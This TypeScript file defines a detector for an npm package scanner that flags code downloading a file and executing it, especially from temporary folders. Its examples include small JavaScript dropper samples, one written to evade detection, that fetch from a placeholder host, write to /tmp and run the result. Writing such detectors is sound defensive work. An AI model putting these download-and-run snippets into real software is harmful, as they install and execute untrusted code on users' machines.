import { mayDo } from "../behaviour/marks.ts";
import { phaseHere } from "../behaviour/moments.ts";
import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { isBundle, nearby, runningDeeds } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const STARTS = ["child_process", "bun.spawn", "deno.command", "execa"] as const;
/** Where droppers put things, and where installers of native programs do not. */
const TEMPORARY = /tmpdir\(\)|['"`]\/tmp\/|\/dev\/shm|process\.env\.(?:TEMP|TMP|APPDATA|LOCALAPPDATA)|%temp%|AppData/i;

export const dropsAndStarts: Detector = {
  id: "drops-and-starts",
  title: "Downloads a file and starts a file right beside it",
  severity: "high",
  ecosystems: ["npm"],
  points: 5,
  class: "threat",
  group: "download-and-run",
  why: `Within a few lines a file is fetched and written, and a process is started from something that is not a constant. At install or
import, out of a temporary folder, this is a dropper.

esbuild, sharp, Playwright and others fetch a native program at install into their own folder, check its digest or signature, and leave
starting it to the functions that somebody calls. Outside temporary folders this counts less than half.`,
  literals: STARTS,
  *detect(tree) {
    for (const file of scriptsWith(tree, STARTS)) {
      if (!mayDo(file, ["write"]) || !mayDo(file, ["start"])) continue;
      const fetches = deedsOf(file, "http");
      const writes = deedsOf(file, "write");
      if (fetches.length === 0 || writes.length === 0) continue;
      const starts = runningDeeds(file).filter((deed) => deed.act === "start");
      const written = nearby(file, fetches, writes, true);
      const pair = written === undefined ? undefined : nearby(file, writes, starts);
      if (pair === undefined) continue;
      const says = `a file is fetched, written by ${pair.first.what}, and ${pair.then.what} starts something beside it`;
      const phase = phaseHere(file, pair.then.offset);
      const late = isLate({ phase });
      const place = TEMPORARY.test(file.text) ? 1 : 0.45;
      yield sight(file, pair.then.offset, says, { share: place * (late ? 0.4 : 1) * (isBundle(file) ? 0.5 : 1) });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const https = require('https'), fs = require('fs'), cp = require('child_process');\nconst p = '/tmp/x';\nconst f = fs.createWriteStream(p);\nhttps.get('https://example.invalid/x', (r) => {\n  r.pipe(f);\n  f.on('finish', () => cp.exec(p));\n});\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "install.js":
            "const https = require('https'), fs = require('fs'), cp = require('child_process');\nhttps.get(url, (r) => r.pipe(fs.createWriteStream(target)));\ncp.execSync('node-gyp rebuild');\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.mjs":
            "import { writeFileSync as w } from 'fs';\nimport { tmpdir as t } from 'os';\nimport { spawn as s } from 'child_process';\nconst b = await (await fetch('https://example.invalid/x')).arrayBuffer();\nconst p = t() + '/x';\nw(p, b);\ns(p, { detached: true });\n",
        },
      },
    ],
  },
};
